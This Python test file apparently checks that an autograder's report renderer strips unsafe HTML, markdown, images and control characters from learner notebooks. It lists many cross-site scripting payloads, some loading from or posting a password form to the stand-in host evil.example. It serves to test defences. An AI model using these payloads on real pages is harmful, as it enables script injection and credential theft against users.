"""What learners write and print, made safe to show."""

import base64

import pytest
from report_course import Page

from autograder.report import markup
from autograder.report.notebook import SIZE_LIMIT, read_notebook

SIZE = (7).to_bytes(4, "big") * 2
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(8) + SIZE + bytes(8)).decode()
JPEG = base64.b64encode(b"\xff\xd8\xff\xc0\x00\x08\x08\x00\x07\x00\x07" + bytes(24)).decode()

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='https://evil.example/who-reads-this.png'>",
    "<img src=//evil.example/x srcset='https://evil.example/y 2x'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<form action='https://evil.example/'><input name=password><button>Log in</button></form>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<video poster='https://evil.example/x'><source src='https://evil.example/y'></video>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "</pre></div></main><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_html_runs_or_loads(attack):
    assert Page(markup.html(attack)).dangers() == []
    assert Page(markup.html(attack, links=True)).dangers() == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_markdown_runs_or_loads(attack):
    assert Page(markup.markdown(f"Text\n\n{attack}\n")).dangers() == []


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "<javascript:alert(1)>",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](https://evil.example/pixel.png)",
        "![x](data:image/svg+xml;base64,PHN2Zy8+)",
        "[x]: javascript:alert(1)\n\n[x]",
        "![x](x.png 'a\" onerror=\"alert(1)')",
        "[x](/etc/passwd) ![x](../../secret.png)",
    ],
)
def test_no_markdown_link_or_picture_runs_or_loads(source):
    assert Page(markup.markdown(source)).dangers() == []


def test_the_finder_of_dangers_finds_them():
    missed = [attack for attack in ATTACKS if not Page(attack).dangers()]
    assert missed == ["<!--><script>alert(1)</script>-->"]  # a comment to html.parser, not to a browser


def test_what_a_lesson_needs_survives():
    shown = markup.markdown(
        "# Title\n\nA **bold** [case](https://atlas.mitre.org).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        f"<details><summary>Why?</summary>So.</details>\n\n![plot](data:image/png;base64,{PNG})"
    )
    tags = [tag for tag, _ in Page(shown).tags]
    assert {"h3", "strong", "a", "table", "details", "summary", "img"} <= set(tags)
    assert "h1" not in tags


def test_an_output_cannot_pose_as_a_part_of_the_page():
    fake = (
        '<section class="aisec-verdict aisec-passed" id="main"><p class="aisec-headline">passed</p></section>'
    )
    shown = str(markup.html(fake))
    assert shown == "<p>passed</p>"
    assert "<h" not in markup.markdown("<h1>Feedback</h1><h2>Your score</h2><main><header>16 of 16")


def test_escape_codes_and_control_characters_do_not_reach_the_page():
    assert markup.plain("\x1b[1;31mred\x1b[0m \x1b]8;;http://x\x07link\x1b]8;;\x07") == "red link"
    assert markup.plain("a\x00b\x07c\x9bd") == "a\ufffdb\ufffdc\ufffdd"
    assert markup.plain("tab\tand\nline") == "tab\tand\nline"


def test_text_that_reads_in_another_order_than_it_runs_is_unmasked():
    assert "\u202e" not in markup.plain("if user != 'admin\u202e'# check")
    assert markup.plain("שלום עולם") == "שלום עולם"


def test_a_progress_bar_shows_its_last_state():
    assert markup.plain("10 %\r50 %\r100 %\ndone\r\nend") == "100 %\ndone\nend"


def test_long_text_says_how_much_is_left_out():
    assert markup.plain("x" * 50, limit=10) == "x" * 10 + "\n… 40 more characters"


def test_code_is_escaped_and_coloured():
    shown = markup.code("def f():\n    return '</pre><script>alert(1)</script>'")
    assert Page(shown).dangers() == []
    assert 'class="hl-k"' in shown


@pytest.mark.parametrize(("kind", "data"), [("image/png", PNG), ("image/jpeg", JPEG)])
def test_a_png_and_a_jpeg_are_shown(kind, data):
    shown = markup.picture(kind, f"{data[:8]}\n{data[8:]}", 'a "plot" <b>')
    (tag, attributes), *_ = Page(shown).tags
    assert (tag, attributes["src"]) == ("img", f"data:{kind};base64,{data}")
    assert attributes["alt"] == 'a "plot" <b>'


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("image/png", base64.b64encode(b"<svg onload=alert(1)>").decode()),
        ("image/png", JPEG),
        ("image/png", 'x" onerror="alert(1)'),
        ("image/jpeg", ""),
        ("image/png", base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(8) + b"\xff" * 8).decode()),
    ],
)
def test_what_is_not_the_picture_it_says_is_not_shown(kind, data):
    assert markup.picture(kind, data, "") is None


@pytest.mark.parametrize("source", ["[" * 70_000, "<div>" * 14_000])
def test_markdown_beyond_the_limit_is_shown_as_it_is_and_cut(source):
    assert Page(markup.markdown(source)).tags == [("pre", {})]


@pytest.mark.parametrize(
    "content",
    [
        "",
        "{",
        "[]",
        "null",
        "{}",
        '{"cells": 5}',
        '{"cells": null}',
        "\ud800".encode("utf-8", "surrogatepass"),
        "[" * 100_000,
    ],
)
def test_a_broken_notebook_is_an_error_that_names_it(tmp_path, content):
    from autograder.errors import SubmissionError

    path = tmp_path / "poisoning.ipynb"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    with pytest.raises(SubmissionError, match=r"poisoning\.ipynb: cannot be read"):
        read_notebook(path)


def test_cells_of_the_wrong_shape_are_shown_as_far_as_they_go(tmp_path):
    path = tmp_path / "odd.ipynb"
    path.write_text(
        '{"cells": [5, {}, {"cell_type": "code", "source": 7, "outputs": "x", "metadata": 1},'
        ' {"cell_type": "code", "source": ["a\\n", 3, "b"], "outputs": [1, {"output_type": "error"},'
        ' {"output_type": "stream", "text": {}}, {"output_type": "display_data", "data": []}]}]}'
    )
    assert [len(cell.outputs) for cell in read_notebook(path)] == [0, 0, 3]


def test_a_huge_notebook_is_refused_before_it_is_read(tmp_path):
    from autograder.errors import SubmissionError

    path = tmp_path / "huge.ipynb"
    with path.open("wb") as file:
        file.truncate(SIZE_LIMIT + 1)
    with pytest.raises(SubmissionError, match="larger than 10 MB"):
        read_notebook(path)


@pytest.mark.parametrize("mark", "\u061c\u200e\u200f\u2028\u2029\u202e\u2066")
def test_what_turns_or_breaks_a_line_unseen_is_shown(mark):
    assert markup.plain(f"a{mark}b") == "a\ufffdb"
